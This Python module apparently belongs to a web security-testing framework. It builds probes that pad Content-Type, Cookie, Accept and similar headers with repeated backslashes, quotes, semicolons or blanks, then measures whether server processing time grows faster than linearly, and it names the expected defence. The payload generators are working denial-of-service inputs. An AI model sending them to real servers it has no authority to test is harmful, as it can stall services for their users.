r"""Request headers that take long to read.

What it does
    Uploads an honest file with one more thing in the request's Content-Type, or with one more
    header, that holds one token again and again: backslashes in an open quote, parameters,
    commas, blanks. Each is sent in growing sizes, and the processor time is compared.

Why it works
    These headers are read before anything is known of the sender, by patterns that were written
    for short and honest values. 36 backslashes in a parameter of the Content-Type kept a reader
    of forms busy for seconds, and a few more for days.

Expected defence
    The server bounds the head of a request; the app compares the Content-Type with the one form
    that it expects, and looks at nothing else in it.

References
    - CWE-1333, CWE-407
    - OWASP ASVS v5.0.0-1.3.12, v5.0.0-15.2.2
    - CVE-2024-24762, CVE-2023-23969, CVE-2014-0050
"""

from __future__ import annotations

from dataclasses import replace

from hypothesis import strategies as st

from attacks.model import GENERATED, Attack, Header, Probe, Profile, Request, Severity, Weight
from attacks.oracles.linear_cost import linear_cost
from attacks.strategies.ladders import Pump, Scale, climbing, pumps
from attacks.uploads import form_for, honest, honest_file, part_for, post

LENGTHS = tuple(500 << step for step in (0, 2, 4))  # bytes: servers take some eight kilobytes
COUNTS = tuple(range(8, 39, 3))
CONTENT_TYPE = b"Content-Type"

PUMPS: dict[str, tuple[bytes, Pump]] = {
    "backslashes": (CONTENT_TYPE, Pump(token=b"\\", before=b'; !="', scale=Scale.SHORT)),
    "escaped-quotes": (CONTENT_TYPE, Pump(token=b'\\"', before=b'; a="', scale=Scale.SHORT)),
    "parameters": (CONTENT_TYPE, Pump(token=b"; a=b")),
    "semicolons": (CONTENT_TYPE, Pump(token=b";")),
    "spaces": (CONTENT_TYPE, Pump(token=b" ", before=b"; a", after=b"=b")),
    "cookie-blanks": (b"Cookie", Pump(token=b" ", before=b"a", after=b"=b")),
    "cookie-quotes": (b"Cookie", Pump(token=b"\\0", before=b'a="', scale=Scale.SHORT)),
    "languages": (b"Accept-Language", Pump(token=b"a-a,", before=b"en,")),
    "types": (b"Accept", Pump(token=b"a/b;q=1,")),
    "forwarded": (b"X-Forwarded-For", Pump(token=b"1,")),
    "tags": (b"If-None-Match", Pump(token=b'"a",')),
}
NAMES = (
    CONTENT_TYPE,
    b"Accept",
    b"Accept-Language",
    b"Accept-Encoding",
    b"If-None-Match",
    b"Range",
)
TOKENS = (b" ", b";", b",", b"=", b'"', b"\\", b"a", b"/", b"-", b"*", b"q=1", b"\t", b"0", b"%")


def seeds(profile: Profile) -> tuple[Probe, ...]:
    """Return what readers of headers are known to have been slow for."""
    return tuple(_headed(profile, header, pump, name) for name, (header, pump) in PUMPS.items())


def _headed(profile: Profile, header: bytes, pump: Pump, variant: str = GENERATED) -> Probe:
    upload = post(profile, form_for(profile, part_for(profile, honest_file(profile))))
    values = (pump.before + pump.token * count + pump.after for count in _counts(pump))
    return climbing((_with(upload, header, value) for value in values), variant)


def _counts(pump: Pump) -> tuple[int, ...]:
    """Return how often the token is said."""
    if pump.scale is Scale.SHORT:
        return COUNTS
    return tuple(length // len(pump.token) for length in LENGTHS)


def _with(request: Request, name: bytes, value: bytes) -> Request:
    """Return *request* with *value* behind its Content-Type, or in another header."""
    (kind, honest_type), *rest = request.headers
    if name == CONTENT_TYPE:
        return replace(request, headers=((kind, honest_type + value), *rest))
    more: Header = (name, value)
    return replace(request, headers=(*request.headers, more))


def probes(profile: Profile) -> st.SearchStrategy[Probe]:
    """Repeat any few tokens of a header, between any others."""
    return st.builds(
        lambda name, pump: _headed(profile, name, pump), st.sampled_from(NAMES), pumps(*TOKENS)
    )


ATTACK = Attack(
    id="cost.request-header",
    title="Request headers that take long to read",
    severity=Severity.HIGH,
    controls=("request-media-type", "regex-linear"),
    cwe=(1333, 407),
    asvs=("v5.0.0-1.3.12", "v5.0.0-15.2.2"),
    oracles=(linear_cost,),
    seeds=seeds,
    probes=probes,
    neighbours=lambda profile: (honest(profile),),
    weight=Weight.HEAVY,
)
